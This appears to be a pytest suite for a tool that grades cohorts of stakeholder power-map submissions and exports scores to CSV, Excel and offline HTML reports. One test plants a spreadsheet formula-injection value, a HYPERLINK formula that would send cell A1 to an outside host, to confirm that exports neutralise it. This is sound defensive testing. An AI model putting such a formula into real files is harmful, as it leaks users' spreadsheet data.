"""Cohorts, exports, HTML reports and the ``powermap score`` command."""

import json
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

import powermap_kit as pk
from powermap_kit.cli import main
from powermap_kit.grading import cohort_summary, export_cohort, grade, grade_cohort
from powermap_kit.render import cohort_report, submission_report, write_report, write_reports

FIXTURES = Path(__file__).parent / "fixtures"
KEY = FIXTURES / "grading_key.json"


@pytest.fixture
def cohort_dir(tmp_path):
    folder = tmp_path / "cohort"
    folder.mkdir()
    shutil.copy(FIXTURES / "grading_good.json", folder / "a_good.json")
    shutil.copy(FIXTURES / "grading_classic_error.json", folder / "b_hasty.json")
    anonymous = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
    del anonymous["meta"]
    anonymous["stakeholders"][0]["name"] = "<b>Li Ming</b>"     # user text must be escaped in reports
    (folder / "c_anon.json").write_text(json.dumps(anonymous, ensure_ascii=False), "utf-8")
    (folder / "d_broken.json").write_text("{oops", "utf-8")
    (folder / "notes.txt").write_text("not a map", "utf-8")
    return folder


def test_grade_cohort_one_row_per_submission(cohort_dir):
    shutil.copy(KEY, cohort_dir / "key.json")                     # the key beside the submissions is skipped
    frame = grade_cohort(cohort_dir, cohort_dir / "key.json")
    assert list(frame["submission"]) == ["trainee-good", "trainee-hasty", "c_anon", "d_broken"]
    assert list(frame.columns) == ["submission", "file", "people", "roles", "power", "stance", "coach",
                                   "relationships", "stage", "decision_mode", "insights", "total", "error"]
    assert frame.loc[0, "total"] == 100 and frame.loc[0, "error"] == ""
    assert pd.isna(frame.loc[3, "total"]) and "not valid JSON" in frame.loc[3, "error"]
    assert frame["total"].dtype == "float64"


def test_grade_cohort_accepts_lists_of_paths_and_maps(cohort_dir):
    maps = [pk.load_map(FIXTURES / "grading_good.json"), cohort_dir / "b_hasty.json"]
    frame = grade_cohort(maps, KEY)
    assert list(frame["submission"]) == ["trainee-good", "trainee-hasty"]


def test_cohort_summary(cohort_dir):
    frame = grade_cohort(cohort_dir, KEY)
    summary = cohort_summary(frame)
    assert (summary.count, summary.graded, summary.errors) == (4, 3, 1)
    assert {"mean", "median", "max"} <= set(summary.criteria.columns)
    assert summary.criteria.loc["total", "median"] == frame["total"].median()
    assert summary.criteria.loc["total", "high"] == 100 and summary.criteria.loc["roles", "max"] == 19.2
    # The anonymous map's dean is "<b>Li Ming</b>": no match, so the dean counts as missed once.
    assert summary.missed_people.set_index("id")["missed"].to_dict() == {"vp": 1, "teacher": 1, "dean": 1}
    roles = summary.missed_roles.set_index(["id", "role"])["missed"].to_dict()
    assert roles[("it_head", "evaluator")] == 1 and ("vp", "approver") in roles
    assert set(summary.missed_insights["id"]) == {"true-dm", "it-not-dm", "coach", "it-sways-dean", "mode"}
    assert summary.distribution["count"].sum() == 3
    assert summary.distribution.loc[9, "count"] == 1                # one map scored 100
    json.dumps(summary.to_dict())


def test_summary_survives_pandas_operations(cohort_dir):
    frame = grade_cohort(cohort_dir, KEY)
    sorted_frame = frame.sort_values("total")
    assert cohort_summary(sorted_frame).graded == 3
    bare = pd.DataFrame(frame.drop(columns=["file"]).to_dict("records"))     # e.g. a CSV read back
    summary = cohort_summary(bare)
    assert summary.graded == 3 and summary.missed_people.empty


def test_export_csv_and_excel(cohort_dir, tmp_path):
    frame = grade_cohort(cohort_dir, KEY)
    csv_path = export_cohort(frame, tmp_path / "out" / "cohort.csv")
    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                         # BOM: Excel shows Chinese correctly
    back = pd.read_csv(csv_path, encoding="utf-8-sig")
    assert list(back.columns) == list(frame.columns) and back.loc[0, "total"] == 100
    xlsx = export_cohort(frame, tmp_path / "cohort.xlsx", lang="zh")
    sheets = pd.read_excel(xlsx, sheet_name=None)
    assert list(sheets) == ["成绩", "汇总"]
    assert "总分" in sheets["成绩"].columns and len(sheets["成绩"]) == 4
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        export_cohort(frame, tmp_path / "cohort.txt")


def _offline(html):
    # Self-contained: no scripts, nothing fetched from elsewhere.
    assert "<script" not in html.lower()
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", html)


def test_submission_report_is_self_contained_and_escaped(cohort_dir, tmp_path):
    result = grade(cohort_dir / "c_anon.json", KEY, lang="en")
    html = submission_report(result, picture=False)
    _offline(html)
    assert "&lt;b&gt;Li Ming&lt;/b&gt;" in html and "<b>Li Ming" not in html
    assert "Score report: c_anon" in html and "100" in html
    hasty = grade(cohort_dir / "b_hasty.json", KEY, lang="zh")
    html = submission_report(hasty, picture=False)
    assert "评分报告" in html and "真正的决策者是教务处处长。" in html and "请复习" in html
    path = write_report(tmp_path / "r.html", hasty, picture=False)
    assert path.read_text("utf-8").startswith("<!DOCTYPE html>")


def test_submission_report_with_picture(cohort_dir):
    pytest.importorskip("matplotlib")
    html = submission_report(grade(cohort_dir / "b_hasty.json", KEY), show_key=True)
    _offline(html)
    assert html.count("<svg") >= 2 or "could not be drawn" in html


def test_error_report(cohort_dir):
    html = submission_report(grade(cohort_dir / "d_broken.json", KEY))
    assert "could not be scored" in html and "not valid JSON" in html


def test_cohort_report(cohort_dir, tmp_path):
    frame = grade_cohort(cohort_dir, KEY, lang="en")
    html = cohort_report(frame)
    _offline(html)
    assert "Cohort review" in html and "Score distribution" in html and "<svg" in html
    assert "People most often left out" in html and "Wang Fang (王芳)" in html
    assert "The dean, not the IT head, decides." in html
    assert html.index("trainee-good") < html.index("trainee-hasty")   # best first
    assert "not valid JSON" in html
    zh = cohort_report(frame, lang="zh")
    assert "学员成绩汇总" in zh and "常见错误" in zh
    write_report(tmp_path / "c.html", frame)
    assert (tmp_path / "c.html").exists()


# ---- command line -------------------------------------------------------------------------

def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_json(capsys, cohort_dir):
    code, out, err = run(capsys, "score", "--key", str(KEY), str(cohort_dir), "--format", "json")
    assert code == 1                                            # one bad file
    rows = json.loads(out)
    assert [r["submission"] for r in rows] == ["trainee-good", "trainee-hasty", "c_anon", "d_broken"]
    good, hasty, _, broken = rows
    assert good["total"] == 100 and good["feedback"] == []
    assert set(hasty["criteria"]) >= {"people", "roles", "insights"} and isinstance(hasty["feedback"][0], str)
    assert "error" in broken and "total" not in broken
    assert err == ""                                            # no progress bar off a terminal


def test_cli_exit_zero_when_all_scored_and_language(capsys):
    code, out, _ = run(capsys, "score", "--lang", "zh", "--key", str(KEY), str(FIXTURES / "grading_classic_error.json"),
                       "--format", "json")
    assert code == 0
    (row,) = json.loads(out)
    assert any("请复习" in line for line in row["feedback"])


def test_cli_table_and_csv(capsys, cohort_dir, tmp_path):
    code, out, _ = run(capsys, "score", "--key", str(KEY), str(FIXTURES / "grading_classic_error.json"))
    assert code == 0 and "Total" in out and "trainee-hasty" in out and "- The dean, not the IT head" in out
    code, out, _ = run(capsys, "score", "--key", str(KEY), str(cohort_dir))
    assert code == 1 and "error:" in out
    code, out, _ = run(capsys, "score", "--key", str(KEY), str(cohort_dir), "--format", "csv")
    lines = out.splitlines()
    assert lines[0] == "submission,file,people,roles,power,stance,coach,relationships,stage,decision_mode,insights,total,error"
    assert len(lines) == 5
    target = tmp_path / "out.csv"
    code, _, err = run(capsys, "score", "--key", str(KEY), str(cohort_dir), "--format", "csv", "--out", str(target))
    assert code == 1 and target.read_bytes().startswith(b"\xef\xbb\xbf") and "wrote" in err


def test_cli_html_and_xlsx(capsys, cohort_dir, tmp_path):
    one = tmp_path / "one.html"
    code, _, _ = run(capsys, "score", "--key", str(KEY), str(FIXTURES / "grading_good.json"), "--format", "html",
                     "--out", str(one))
    assert code == 0 and "Score report: trainee-good" in one.read_text("utf-8")
    many = tmp_path / "many.html"
    code, _, _ = run(capsys, "score", "--key", str(KEY), str(cohort_dir), "--format", "html", "--out", str(many))
    assert code == 1 and "Cohort review" in many.read_text("utf-8")
    xlsx = tmp_path / "c.xlsx"
    code, _, _ = run(capsys, "score", "--key", str(KEY), str(cohort_dir), "--format", "xlsx", "--out", str(xlsx))
    assert code == 1 and len(pd.read_excel(xlsx)) == 4


def test_cli_bad_usage_exits_2(capsys, tmp_path, cohort_dir):
    bad_key = tmp_path / "key.json"
    data = json.loads(KEY.read_text("utf-8"))
    data["grading"]["weights"] = {"rolez": 3}
    bad_key.write_text(json.dumps(data), "utf-8")
    code, out, err = run(capsys, "score", "--key", str(bad_key), str(cohort_dir))
    assert code == 2 and "grading.weights.rolez" in err and out == ""
    code, _, err = run(capsys, "score", "--key", str(tmp_path / "missing.json"), str(cohort_dir))
    assert code == 2 and "cannot be read" in err
    empty = tmp_path / "empty"
    empty.mkdir()
    code, _, err = run(capsys, "score", "--key", str(KEY), str(empty))
    assert code == 2 and "no submissions" in err
    code, _, err = run(capsys, "score", "--key", str(KEY), str(cohort_dir), "--format", "xlsx")
    assert code == 2 and "--out" in err
    with pytest.raises(SystemExit) as exc:
        main(["score", str(cohort_dir)])                       # --key is required
    assert exc.value.code == 2


def test_cli_parallel_matches_serial(capsys, tmp_path):
    folder = tmp_path / "many"
    folder.mkdir()
    for n in range(6):
        shutil.copy(FIXTURES / ("grading_good.json" if n % 2 else "grading_classic_error.json"), folder / f"s{n}.json")
    (folder / "s9.json").write_text("[]", "utf-8")
    _, serial, _ = run(capsys, "score", "--key", str(KEY), str(folder), "--format", "json", "--jobs", "1")
    code, parallel, _ = run(capsys, "score", "--key", str(KEY), str(folder), "--format", "json", "--jobs", "2")
    assert code == 1 and json.loads(parallel) == json.loads(serial)


def test_write_reports_one_page_per_submission(cohort_dir, tmp_path):
    frame = grade_cohort(cohort_dir, KEY)
    paths = write_reports(tmp_path / "reports", frame, picture=False)
    names = sorted(p.name for p in paths)
    assert names == ["c_anon.html", "index.html", "trainee-good.html", "trainee-hasty.html"]
    assert "Cohort review" in (tmp_path / "reports" / "index.html").read_text("utf-8")


def test_cli_html_into_a_folder(capsys, cohort_dir, tmp_path):
    out = tmp_path / "site"
    code, _, err = run(capsys, "score", "--lang", "zh", "--key", str(KEY), str(cohort_dir), "--format", "html",
                       "--out", f"{out}/")
    assert code == 1 and "份报告" in err
    assert (out / "index.html").exists() and (out / "trainee-hasty.html").exists()


def test_progress_bar_only_on_a_terminal(monkeypatch):
    import io

    from powermap_kit.grading import batch

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    monkeypatch.setattr("sys.stderr", io.StringIO())
    assert isinstance(batch.progress_bar(1000), batch._NoBar)
    monkeypatch.setattr("sys.stderr", Terminal())
    bar = batch.progress_bar(1000)
    assert not isinstance(bar, batch._NoBar)
    bar.close()
    assert isinstance(batch.progress_bar(3), batch._NoBar)        # short runs: no bar


def test_one_bar_counts_every_submission(monkeypatch, cohort_dir):
    import io

    from powermap_kit.grading import grade_many, submission_files

    err = io.StringIO()
    monkeypatch.setattr("sys.stderr", err)
    files = submission_files(cohort_dir) * 20
    from tqdm import tqdm

    seen = []
    real = tqdm.update

    def update(self, n=1):
        seen.append(n)
        return real(self, n)

    monkeypatch.setattr(tqdm, "update", update)
    results = grade_many(files, KEY, progress=True, jobs=2)
    assert len(results) == len(files) and sum(seen) == len(files)


def test_cohort_in_worker_processes_matches_one_process(cohort_dir):
    from powermap_kit.grading import cohort_summary

    files = [*sorted(cohort_dir.glob("*.json"))] * 3
    serial = grade_cohort(files, KEY, jobs=1)
    parallel = grade_cohort(files, KEY, jobs=2)
    assert serial.equals(parallel)
    a, b = cohort_summary(serial), cohort_summary(parallel)
    assert a.to_dict() == b.to_dict() and a.missed_roles.equals(b.missed_roles)
    # results from the workers still refer to the one key and render in either language
    results = parallel.attrs["grading"]
    good = next(r for r in results if r.ok)
    assert good.key is results.key and good.lines("zh") == serial.attrs["grading"][0].lines("zh")


def test_cli_csv_keeps_user_text_from_becoming_a_formula(capsys, tmp_path):
    data = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
    data.setdefault("meta", {})["author"] = '=HYPERLINK("http://x?"&A1,"x")'
    (tmp_path / "evil.json").write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    code, out, _ = run(capsys, "score", "--key", str(KEY), str(tmp_path), "--format", "csv")
    assert code == 0 and "\n\"'=HYPERLINK(" in out and "\n=HYPERLINK" not in out


def test_coach_comment_files_are_not_submissions(tmp_path):
    import shutil

    from powermap_kit.cases import load_case
    from powermap_kit.grading import submission_files

    case = load_case("it-solution")
    shutil.copy(case.submission_paths["strong"], tmp_path / "strong.json")
    (tmp_path / "strong.review.json").write_text("{}", "utf-8")
    assert [p.name for p in submission_files(tmp_path)] == ["strong.json"]


def test_folder_listing_skips_the_key_and_what_is_not_a_json_file(tmp_path):
    from powermap_kit.grading import submission_files

    (tmp_path / "key.json").write_text("{}", "utf-8")
    for name in ("b.json", "a.json", ".hidden.json", "notes.txt", "c.JSON"):
        (tmp_path / name).write_text("{}", "utf-8")
    (tmp_path / "folder.json").mkdir()
    (tmp_path / "link-to-key.json").symlink_to(tmp_path / "key.json")
    (tmp_path / "link-to-a.json").symlink_to(tmp_path / "a.json")
    (tmp_path / "broken.json").symlink_to(tmp_path / "nowhere.json")
    names = [p.name for p in submission_files(tmp_path, tmp_path / "key.json")]
    assert names == [".hidden.json", "a.json", "b.json", "link-to-a.json"]
    assert "key.json" in [p.name for p in submission_files(tmp_path)]
    # the key given by another path to the same file, and a file of the key's name elsewhere
    assert "key.json" not in [p.name for p in submission_files(tmp_path, tmp_path / "folder.json" / ".." / "key.json")]
    other = tmp_path / "other"
    other.mkdir()
    (other / "key.json").write_text("{}", "utf-8")
    assert [p.name for p in submission_files(other, tmp_path / "key.json")] == ["key.json"]
    assert submission_files([tmp_path / "a.json", {"x": 1}]) == [tmp_path / "a.json", {"x": 1}]


def _dies_in_a_child(parent: int):
    """A convert that kills any process but ``parent`` on its last submission."""
    from powermap_kit.grading import result_row

    def convert(result):
        if os.getpid() != parent and str(result.file).endswith("#last.json"):
            os._exit(3)
        return result_row(result)

    return convert


def test_a_child_that_dies_loses_nothing(cohort_dir, tmp_path):
    import shutil

    from powermap_kit.grading import grade_many, result_row, submission_files

    files = submission_files(cohort_dir) * 4
    last = tmp_path / "x#last.json"
    shutil.copy(files[0], last)
    files.append(last)
    serial = grade_many(files, KEY, jobs=1, convert=result_row)
    for jobs in (2, 3):
        assert grade_many(files, KEY, jobs=jobs, convert=_dies_in_a_child(os.getpid())) == serial


def test_without_fork_a_pool_of_workers_grades_alike(monkeypatch, cohort_dir):
    from powermap_kit.grading import batch, grade_many, result_row, submission_files

    files = submission_files(cohort_dir)
    serial = grade_many(files, KEY, jobs=1, convert=result_row)
    monkeypatch.setattr(batch, "_can_fork", lambda: False)
    assert grade_many(files, KEY, jobs=2, convert=result_row) == serial


def test_grading_leaves_the_garbage_collector_as_it_found_it(cohort_dir):
    import gc

    from powermap_kit.grading import grade_many, result_row, submission_files

    files = submission_files(cohort_dir)
    for jobs in (1, 2):
        assert gc.isenabled()
        grade_many(files, KEY, jobs=jobs, convert=result_row)
        assert gc.isenabled() and gc.get_freeze_count() == 0
    gc.disable()
    try:
        grade_many(files, KEY, jobs=1, convert=result_row)
        assert not gc.isenabled()
    finally:
        gc.enable()
